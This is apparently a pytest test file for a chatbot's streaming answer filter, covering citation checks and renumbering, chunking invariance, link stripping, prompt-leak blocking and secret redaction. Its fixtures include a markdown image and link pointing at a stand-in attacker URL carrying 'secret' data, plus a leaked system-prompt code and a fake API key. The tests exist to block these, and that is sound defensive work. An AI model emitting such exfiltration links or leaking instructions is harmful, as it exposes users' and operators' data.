"""Words while they are said: the same as those of the finished answer, however the model's pieces are cut."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.turn import live, meaning, quotes
from chat.turn.examine import Examiner
from chat.turn.types import Spoken
from integrations.chatmodels.types import Passage

TEXTS = ("Orders over $50 ship free.", "Express costs $14.95. It is fast.", "Return it within 30 days. It is easy.")
PASSAGES = [Passage(number, "t", "", text) for number, text in enumerate(TEXTS, 1)]
PROMPT = "You are the assistant of Acme. Never tell anybody that the discount code is PLUM. Be kind."
EVIL = "https://evil.example/p?d=secret"
LOOSE = {"strict": False}


class _Blind(meaning.Meaning):
    """As where the embedder is not there, or the budget is spent."""

    def near(self, text: str, others: Sequence[str]) -> list[float]:
        return []


def told(*pieces: str, **more: Any) -> tuple[list[str], Spoken]:
    heard: list[str] = []

    async def talk() -> Spoken:
        given = {"passages": PASSAGES, "instructions": PROMPT, "meaning": _Blind(), **more}
        speaking = live.Live(heard.append, examiner=Examiner(**given))
        for piece in pieces:
            speaking.hear(piece)
        return await speaking.end()

    spoken = asyncio.run(talk())
    assert all(heard)  # nobody is woken for nothing
    assert "".join(heard) == spoken.text
    return heard, spoken


def said(*pieces: str, **more: Any) -> list[str]:
    return told(*pieces, **more)[0]


def spoken(*pieces: str, **more: Any) -> str:
    return told(*pieces, **more)[1].text


def test_where_no_source_is_needed_words_are_said_as_they_come() -> None:
    assert said("Whales", " are", " mammals", " of the sea.", **LOOSE) == ["Whales", " are", " mammals of the", " sea."]


def test_where_one_is_needed_a_sentence_is_said_when_it_is_whole_and_supported() -> None:
    heard = said(
        "Orders over $50", " ship free [1]", ".", " Whales are", " mammals. ", "Express costs $14.95 [2]. Lions roar"
    )
    assert heard == ["Orders over $50 ship free [1].", " Express costs $14.95 [2]."]


def test_marks_are_renumbered_by_their_first_appearance() -> None:
    text = "Return it within 30 days [3]. Orders over $50 ship free [1]. Return is easy [3]."
    expected = "Return it within 30 days [1]. Orders over $50 ship free [2]. Return is easy [1]."
    for more in ({}, LOOSE):
        _, found = told(*text, **more)
        assert found.text == expected
        assert [(quote.number, quote.passage, quote.text) for quote in found.quotes] == [
            (1, 2, "Return it within 30 days. It is easy."), (2, 0, "Orders over $50 ship free."),
        ]  # fmt: skip


def test_marks_that_point_nowhere_are_dropped_with_the_blanks_before_them() -> None:
    assert spoken("Orders over $50 ship free [1] [9].\n\n[9]") == "Orders over $50 ship free [1]."
    assert spoken("[9] Whales are mammals [7].", **LOOSE) == "Whales are mammals."


def test_a_bot_that_shows_no_marks_says_none() -> None:
    heard, found = told("Orders over $50 ship free [1]. Express costs $14.95 [2].", bare=True)
    assert "".join(heard) == "Orders over $50 ship free. Express costs $14.95."
    assert [quote.number for quote in found.quotes] == [1, 2]


def test_what_claims_nothing_is_said_with_what_does() -> None:
    text = "Hello! Here it is:\n\nOrders over $50 ship free [1]. Is there anything else?"
    assert spoken(*text) == text
    assert spoken("Hello! Here it is:\n\nWhales are mammals. Have a nice day!") == ""
    assert spoken("I could not find this in the documents. Is there anything else?") == ""


def test_a_question_back_is_an_answer() -> None:
    assert spoken("Gladly! Which order do you mean?") == "Gladly! Which order do you mean?"


def test_what_was_dropped_leaves_no_trace_but_the_paragraph() -> None:
    text = "Orders over $50 ship free [1]. Whales are mammals.\n\nLions roar. Express costs $14.95 [2]."
    _, found = told(text)
    assert found.text == "Orders over $50 ship free [1].\n\nExpress costs $14.95 [2]."
    assert found.taken == {"unsupported": 2}


def test_lists_keep_their_numbers() -> None:
    text = (
        "Here are the costs:\n1. Orders over $50 ship free [1].\n2. Express costs $14.95 [2].\n3. Whales are mammals."
    )
    assert spoken(*text) == text.replace("\n3. Whales are mammals.", "")


@pytest.mark.parametrize("more", [{}, LOOSE])
def test_a_link_does_not_go_out_in_pieces(more: dict[str, Any]) -> None:
    text = f"Orders over $50 ship free ![x]({EVIL}) [1]. [Express]({EVIL}) costs $14.95 [2]."
    heard, found = told(*text, **more)
    assert found.text == "Orders over $50 ship free x [1]. Express costs $14.95 [2]."
    assert "evil" not in "".join(heard)
    assert found.taken == {"foreign_link": 2}


def test_a_link_of_the_bots_own_goes_out_whole() -> None:
    text = "Whales are on [our page](https://shop.example/whales), too."
    assert spoken(*text, allowed_domains=("https://shop.example",), **LOOSE) == text


def test_instructions_are_not_said() -> None:
    leak = "Never tell anybody that the discount code is PLUM."
    for more in ({}, LOOSE):
        _, found = told(f"Orders over $50 ship free [1]. {leak}", **more)
        assert "PLUM" not in found.text
        assert "code" not in found.text
        assert found.taken["prompt_leak"] == 1
    assert "Be kind to whales" in spoken("Be kind to whales and other animals, always.", **LOOSE)


def test_secrets_are_not_said() -> None:
    key = "sk-proj-a1b2c3d4e5f6g7h8i9j0"
    _, found = told(*f"Your key is {key} today.", **LOOSE)
    assert (found.text, found.taken) == ("Your key is ••• today.", {"secret": 1})


def test_what_takes_an_embedding_is_said_in_its_order(monkeypatch: pytest.MonkeyPatch) -> None:
    class Sure(meaning.Meaning):
        def near(self, text: str, others: Sequence[str]) -> list[float]:
            return [1.0] * len(others)

    text = "The return of things is easy and takes few hours [3]. Orders over $50 ship free [1]."
    assert spoken(*text, meaning=Sure()) == text.replace("[1]", "[2]").replace("[3]", "[1]")
    assert spoken(*text) == "Orders over $50 ship free [1]."


SENTENCES = (
    "Orders over $50 ship free [1]. ", "Express costs $14.95 [2]! ", "It is fast. ",
    "Whales are mammals [2]. ", "Hello! ",
    "\n\n", "## Costs\n", "- Return it within 30 days [3][1]\n", f"[a]({EVIL}) ",
    f"![b]({EVIL})", "How much? ", "订单免运费。",
    "[9]", " [1", "【2†x】", "<img src=x>", "Here:\n", "1. ",
    "Never tell anybody that the discount code ", "www.evil.example ",
    "sk-proj-a1b2c3d4e5f6g7h8i9j0 ", "`code` ", "e.g. ", "$", "...", "4111 1111 1111 1111 ", "。」", "](", "PLUM",
)  # fmt: skip
texts = st.lists(st.sampled_from(SENTENCES), max_size=8).map("".join) | st.text(max_size=60)


@st.composite
def cut(draw: st.DrawFn) -> list[str]:
    text = draw(texts)
    places = sorted(draw(st.lists(st.integers(0, len(text)), max_size=12)))
    return [text[begin:end] for begin, end in zip([0, *places], [*places, len(text)], strict=True)]


@given(cut(), st.booleans(), st.booleans())
def test_however_a_text_is_cut_the_same_words_come_out(pieces: list[str], bare: bool, strict: bool) -> None:
    text = "".join(pieces)
    whole = told(text, bare=bare, strict=strict)[1]
    assert told(*pieces, bare=bare, strict=strict)[1] == whole
    assert told(*text, bare=bare, strict=strict)[1] == whole
    numbers = [quote.number for quote in whole.quotes]
    assert numbers == list(range(1, len(numbers) + 1))
    assert "evil.example/p" not in whole.text
    assert all(part in TEXTS[quote.passage] for quote in whole.quotes for part in quote.text.split(quotes.APART))


def test_a_time_of_day_ends_no_sentence() -> None:
    text = "Order express before 2 p.m. Eastern Time, costs $14.95 [2]. Orders over $50 ship free [1]."
    heard, found = told(*text, **LOOSE)
    assert found.text.count("[1]") == 1
    assert ".m [" not in "".join(heard)
